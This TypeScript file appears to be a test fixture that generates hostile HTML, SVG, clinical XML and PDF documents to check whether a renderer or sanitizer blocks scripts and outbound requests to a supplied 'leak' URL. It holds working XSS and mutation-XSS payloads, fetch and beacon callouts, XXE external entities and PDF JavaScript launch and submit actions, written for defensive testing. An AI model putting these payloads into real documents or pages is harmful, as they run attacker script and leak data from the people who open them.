// Documents that try to run scripts and to reach out, to `leak`.

export interface Hostile { name: string, mediaType: string, content: string }

export const hostile = (leak: string): Hostile[] => [
  {
    name: 'letter.html', mediaType: 'text/html', content: `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=${leak}/refresh"><base href="${leak}/">
<script src="${leak}/script.js"></script><link rel="stylesheet" href="${leak}/style.css"><link rel="prefetch" href="${leak}/prefetch">
<style>@import "${leak}/import.css"; body { background: url(${leak}/background) }</style></head>
<body onload="alert(1)"><h1>Letter</h1><p onclick="alert(2)" style="background:url(${leak}/inline)">Good <b>day</b></p><img src="${leak}/image" onerror="alert(3)">
<iframe src="${leak}/frame"></iframe><iframe srcdoc="<script>top.location='${leak}/top'</script>"></iframe><object data="${leak}/object"></object><video poster="${leak}/poster"></video>
<script>alert(4); fetch('${leak}/fetch'); top.location = '${leak}/top'; window.open('${leak}/popup'); navigator.sendBeacon('${leak}/beacon')</script>
<svg onload="alert(5)"><script>alert(6)</script><image href="${leak}/svg"/></svg><form action="${leak}/form"><button autofocus onfocus="alert(7)">x</button></form>
<math><mtext><table><mglyph><style><img src="${leak}/mutated" onerror="alert(8)"></style></mglyph></table></mtext></math></body></html>`,
  },
  {
    name: 'picture.svg', mediaType: 'image/svg+xml', content: `<svg xmlns="http://www.w3.org/2000/svg"
  xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="alert(1)">
<script>alert(2); fetch('${leak}/fetch')</script><script href="${leak}/script.js"/><style>@import "${leak}/import.css"; rect { fill: url(${leak}/fill#x) }</style>
<image href="${leak}/image" width="9" height="9"/>
<use xlink:href="${leak}/use#x"/><foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${leak}/frame"/></foreignObject>
<set attributeName="onmouseover" to="alert(3)"/><rect width="50" height="50"/></svg>`,
  },
  {
    name: 'discharge.xml', mediaType: 'text/xml', content: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${leak}/style.xsl"?>
<!DOCTYPE ClinicalDocument [<!ENTITY outside SYSTEM "${leak}/entity"><!ENTITY % more SYSTEM "${leak}/parameter">%more;]>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:h="http://www.w3.org/1999/xhtml"><title>Discharge</title><component><structuredBody><component><section><title>Summary</title>
<text><paragraph onclick="alert(1)">Well &outside;<h:script>alert(2); fetch('${leak}/fetch')</h:script><linkHtml href="javascript:alert(3)">link</linkHtml></paragraph>
<h:iframe src="${leak}/frame"/><h:img src="${leak}/image" onerror="alert(4)"/><h:script src="${leak}/script.js"/><table background="${leak}/table"><tbody><tr><td>1</td></tr></tbody></table></text>
</section></component></structuredBody></component></ClinicalDocument>`,
  },
  { name: 'report.pdf', mediaType: 'application/pdf', content: pdf(leak) },
]

/** A page with text, and actions of every kind that would run on opening, on closing, and on a click anywhere. */
function pdf(leak: string): string {
  const script = `<</S/JavaScript/JS(app.alert\\(1\\);app.launchURL\\('${leak}/launch'\\);this.submitForm\\('${leak}/submit'\\))>>`
  const text = 'BT /F1 24 Tf 40 100 Td (Report) Tj ET'
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${script}/AA<</WC ${script}/DS ${script}>>/Names<</JavaScript<</Names[(x) ${script}]>>>>>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/AA<</O ${script}>>/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>`
      + `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI(${leak}/uri)>>>><</Type/Annot/Subtype/Widget/Rect[0 0 9 9]/A<</S/Launch/F(${leak}/file)>>>>]>>`,
    `<</Length ${text.length}>>stream\n${text}\nendstream`,
  ]
  let out = '%PDF-1.7\n'
  const offsets = objects.map((object, at) => {
    const offset = out.length
    out += `${at + 1} 0 obj\n${object}\nendobj\n`
    return offset
  })
  const table = offsets.map(offset => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  return `${out}xref\n0 5\n0000000000 65535 f \n${table}trailer<</Size 5/Root 1 0 R>>\nstartxref\n${out.length}\n%%EOF`
}
